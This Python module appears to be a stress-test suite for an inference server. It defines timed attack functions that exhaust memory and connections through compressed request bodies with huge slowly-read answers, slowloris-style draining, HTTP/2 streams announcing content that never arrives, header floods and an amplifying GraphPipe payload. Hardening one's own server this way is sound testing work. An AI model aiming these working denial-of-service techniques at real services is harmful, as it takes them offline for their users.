"""Little on the wire, much in the server: coded bodies, answers that nobody takes, lengths that are announced."""

import concurrent.futures
import json
import os
import struct
import time

from peer import (CANCEL, GRPC, GZIP, H2, INITIAL_WINDOW_SIZE, JSON, Raw, ask, binary_infer, data, drip, flat_bits, grpc_message, packed, post, rst,
                  window)
from registry import attack

MIB = 1 << 20
SMALL = (('WEIR_LIMITS_SLAB_BUDGET', '256MiB'),)  # the quick form's
INFER = '/v2/models/identity/infer'


def slow_readers(target, count, size, answer, rate):
    """Coded requests with large answers, each drained at so many bytes a second."""
    field, body = binary_infer('BOOL', size, flat_bits(size), answer)
    request = post(INFER, packed(body), GZIP, field)
    peers = []
    for _ in range(count):
        peer = Raw(target, receive_buffer=4096, wait=10)
        peers.append(peer.send(request))
        if target.over():
            break
    left = drip(target, peers, rate)
    return f'{len(peers)} requests of {len(request) >> 10} KiB; {len(left)} still open'


@attack(seconds=40, quick=9, quick_env=SMALL)
def slow_json_readers(target):
    """12 requests of 0.8 MB (62 MiB of BOOL, coded) whose JSON answers of 350 MB are read at 15 KB/s."""
    return slow_readers(target, 12, target.size(62, 7) * MIB, 'json', 15000)


@attack(seconds=40, quick=9, quick_env=SMALL)
def slow_binary_readers(target):
    """31 coded requests whose answers of 62 MiB are read at 1.5 KB/s."""
    return slow_readers(target, 31, target.size(62, 7) * MIB, 'binary', 1500)


def announce(target, streams, length, per_connection=100):
    """Streams of one byte that announce `length`; what is reset or refused is announced again."""
    total, began = 0, {}
    while not target.over():
        while len(began) < -(-streams // per_connection):
            began[H2(target, wait=5)] = 1
        for h2, stream in list(began.items()):
            if not h2.pump():
                h2.sock.close()
                del began[h2]
                continue
            open_now = (stream - 1) // 2 - len(h2.closed_streams)
            out = b''
            for _ in range(per_connection - open_now):
                out += h2.head(stream, INFER, 'POST', end=False, extra=[('content-length', str(length)), JSON_FIELD]) + data(stream, b'{', end=False)
                stream, total = stream + 2, total + 1
            if out:
                h2.send(out)
            began[h2] = stream
        time.sleep(0.05)
    return f'{total} streams announced'


JSON_FIELD = ('content-type', 'application/json')


@attack(seconds=40, quick=9, quick_env=SMALL)
def announcements_1024(target):
    """1,024 HTTP/2 streams of one byte that announce 2 MiB each, begun anew when they are reset."""
    return announce(target, target.size(1024, 128), 2 * MIB)


@attack(seconds=40, quick=9, quick_env=SMALL)
def announcements_4000(target):
    """4,000 of them."""
    return announce(target, target.size(4000, 500), 2 * MIB)


@attack(seconds=30, quick=9, quick_env=SMALL)
def announced_messages(target):
    """1,024 gRPC streams that send a message's head (2 MiB) and one byte of it."""
    start = grpc_message(b'')[:1] + (2 * MIB).to_bytes(4, 'big') + b'\n'
    peers = []
    for _ in range(target.size(11, 3)):
        h2 = H2(target, wait=5)
        h2.send(b''.join(h2.head(i, '/inference.GRPCInferenceService/ModelInfer', 'POST', end=False, extra=GRPC) + data(i, start, end=False)
                         for i in range(1, 200, 2)))
        peers.append(h2)
    while not target.over() and any(p.pump() for p in peers):
        time.sleep(0.1)
    for p in peers:
        p.send(b''.join(rst(i, CANCEL) for i in range(1, 200, 2)))
    return f'{sum(p.alive for p in peers)} of {len(peers)} connections still open'


@attack(seconds=30, quick=6, quick_env=SMALL)
def rpc_json_lines(target):
    """JSON bodies of `{}` lines for a streamed RPC, and their answers not read."""
    body = b'{}\n' * (target.size(60, 3) * MIB // 300)
    request = post('/inference.GRPCInferenceService/ModelStreamInfer', body, JSON)
    peers = [Raw(target, receive_buffer=4096, wait=5) for _ in range(target.size(16, 4))]
    for peer in peers:
        peer.send(request)
    left = drip(target, peers, 500)
    return f'{len(peers)} bodies of {len(body) >> 10} KiB; {len(left)} still open'


@attack(seconds=30, quick=5, quick_env=SMALL)
def wide_log_probabilities(target):
    """Chats of 512 tokens with 20 log-probabilities each, 16 choices, read at 500 B/s."""
    fields = {'model': 'chat', 'messages': [{'role': 'user', 'content': 'Tell me all.'}], 'n': 16, 'max_tokens': 256, 'logprobs': True,
              'top_logprobs': 20, 'ignore_eos': True}
    request = post('/v1/chat/completions', json.dumps(fields).encode(), JSON)
    peers = [Raw(target, receive_buffer=4096, wait=5).send(request) for _ in range(target.size(16, 3))]
    left = drip(target, peers, 500)
    return f'{len(left)} of {len(peers)} still open'


@attack(seconds=30, quick=9, quick_env=SMALL)
def held_heads(target):
    """400 connections of 100 streams whose heads are 14 KB and whose bodies never come."""
    fields = [JSON_FIELD, ('content-length', '100000')] + [(f'x-{i}', 'h' * 120) for i in range(85)]
    peers, heads = [], b''
    while not target.over():
        if len(peers) < target.size(400, 300):
            h2 = H2(target, wait=5)
            heads = heads or b''.join(h2.head(i, INFER, 'POST', end=False, extra=fields) for i in range(1, 200, 2))
            peers.append(h2)
            h2.send(heads)
        else:
            time.sleep(0.05)
        for h2 in peers[-8:]:
            h2.pump()
    return f'{len(peers)} connections, {sum(p.pump() for p in peers)} of them still open'


@attack(seconds=30, quick=9, quick_env=SMALL)
def kept_input(target):
    """1,500 HTTP/2 connections that ask for 90 large pages at once, 64 KiB of heads, and read nothing: the heads wait."""
    fields = [(f'x-{i}', 'h' * 120) for i in range(5)]
    heads = b''.join(H2.head(i, '/openapi.json', extra=fields) for i in range(1, 180, 2))
    peers = []
    while not target.over():
        if len(peers) < target.size(1500, 400):
            peers.append(H2(target, (INITIAL_WINDOW_SIZE, 0x3fffffff), receive_buffer=4096, wait=5).send(window(0, 0x3fffffff) + heads))
        else:
            time.sleep(0.05)
    return f'{len(peers)} connections, {len(heads) >> 10} KiB of heads each'


@attack(seconds=30, quick=8, quick_env=SMALL)
def sizes_in_turn(target):
    """Requests of 2 to 60 MiB, another size each time: what one leaves idle is too small or too large for the next, which has its room."""
    sizes = [size * MIB for size in (2, 5, 12, 25, 60, 33, 9, 3)]
    requests = {size: post(INFER, body, field) for size in sizes for field, body in [binary_infer('BOOL', size, flat_bits(size), 'binary')]}
    done, at_once = 0, target.size(400, 200) * MIB
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        while not target.over():
            size = sizes[done % len(sizes)]
            statuses = list(pool.map(lambda request: ask(target, request)[0], [requests[size]] * min(8, max(1, at_once // 2 // size))))
            if set(statuses) != {200}:
                target.broke(f'{size >> 20} MiB at {done}: {statuses}')
            done += 1
    return f'{done} sizes'


@attack(seconds=30, quick=6, quick_env=SMALL)
def generate_details(target):
    """Generate requests of 512 tokens with the details of each, gathered into answers that are read at 500 B/s."""
    fields = {'text_input': 'Tell me all.', 'parameters': {'max_tokens': 512, 'details': True, 'ignore_eos': True}}
    request = post('/v2/models/chat/generate', json.dumps(fields).encode(), JSON)
    peers = [Raw(target, receive_buffer=4096, wait=5).send(request) for _ in range(target.size(200, 40))]
    left = drip(target, peers, 500)
    return f'{len(left)} of {len(peers)} still open'


def empty_strings(tensors, strings):
    """An InferRequest (proto/graphpipe.fbs) of many references to one tensor of many references to one empty string."""
    tables = struct.pack('<4H', 8, 12, 4, 8), struct.pack('<6H', 10, 8, 0, 0, 4, 0), struct.pack('<6H', 12, 16, 12, 4, 0, 8)
    request = 4 + sum(map(len, tables))
    infer = request + 12
    tensor = infer + 8 + 4 + 4 * tensors
    shape = tensor + 16 + (tensor + 20) % 8  # its numbers lie at a multiple of 8
    text = shape + 12 + 4 + 4 * strings
    out = struct.pack('<I', request) + b''.join(tables)
    out += struct.pack('<iB3xI', request - 4, 1, infer - request - 8) + struct.pack('<iI', infer - 12, 4)
    out += struct.pack('<I', tensors) + b''.join(struct.pack('<I', tensor - (infer + 12 + 4 * i)) for i in range(tensors))
    out += struct.pack('<iIIB3x', tensor - 24, shape - tensor - 4, shape + 12 - tensor - 8, 12) + bytes(shape - tensor - 16)
    out += struct.pack('<Iq', 1, strings) + struct.pack('<I', strings)
    out += b''.join(struct.pack('<I', text - (shape + 16 + 4 * i)) for i in range(strings))
    return out + struct.pack('<II', 0, 0)


@attack(seconds=30, quick=9, quick_env=SMALL)
def graphpipe_strings(target):
    """200 GraphPipe requests of 280 KB whose answers, 168 MB of empty strings each, are read at 1.5 KB/s."""
    request = post('/graphpipe/identity', empty_strings(200, 70000), ('content-type', 'application/octet-stream'))
    peers = [Raw(target, receive_buffer=4096, wait=10).send(request) for _ in range(target.size(200, 40))]
    left = drip(target, peers, 1500)
    return f'{len(peers)} requests of {len(request) >> 10} KiB; {len(left)} still open'


@attack(seconds=20, quick=6)
def shared_memory_let_go(target):
    """Regions of 2 GiB of shared memory that infers have touched, unregistered when their objects are unlinked."""
    half, rounds = target.size(1024, 384) * MIB, 0
    name = f'weir-attack-{target.pid}'
    place = {'shared_memory_region': 'r', 'shared_memory_byte_size': half}
    tensor = {'name': 'x', 'datatype': 'FP32', 'shape': [half // 4], 'parameters': place}
    infer = json.dumps({'inputs': [tensor], 'outputs': [{'name': 'x', 'parameters': place | {'shared_memory_offset': half}}]})
    region = json.dumps({'key': '/' + name, 'offset': 0, 'byte_size': 2 * half})
    while not target.over():
        with open('/dev/shm/' + name, 'wb') as memory:
            memory.truncate(2 * half)
        said = [ask(target, post('/v2/systemsharedmemory/region/r/register', region.encode(), JSON)), ask(target, post(INFER, infer.encode(), JSON))]
        os.unlink('/dev/shm/' + name)
        said.append(ask(target, post('/v2/systemsharedmemory/region/r/unregister', b'', JSON)))
        if any(status != 200 for status, _ in said):
            target.broke(f'round {rounds}: {[status for status, _ in said]}')
            break
        rounds += 1
    return f'{rounds} regions'
